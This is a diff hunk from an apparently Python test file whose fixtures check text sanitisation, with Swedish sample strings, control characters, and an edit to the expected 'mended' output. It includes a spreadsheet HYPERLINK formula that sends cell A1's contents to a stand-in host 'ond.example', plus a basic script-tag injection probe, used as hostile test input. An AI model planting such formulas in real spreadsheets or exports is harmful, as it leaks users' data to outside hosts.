@@ -13,7 +13,7 @@ WORD = "Trygghetsskapandeochbrottsförebyggandesamverkansorganisation"
 LONG = f"{WORD} {'Lång text om trygghet. ' * 500}"[:10_000]
 FORMULA = '=HYPERLINK("http://ond.example/?x="&A1;"Klicka")'
 BROKEN = "a\x00b\x0bc\ud800d <script>alert(1)</script> ]]> & 👍"
-MENDED = "a\ufffdb\ufffdc\ufffdd <script>alert(1)</script> ]]> & 👍"
+MENDED = "a\ufffdb\nc\ufffdd <script>alert(1)</script> ]]> & 👍"
 
 
 @pytest.fixture
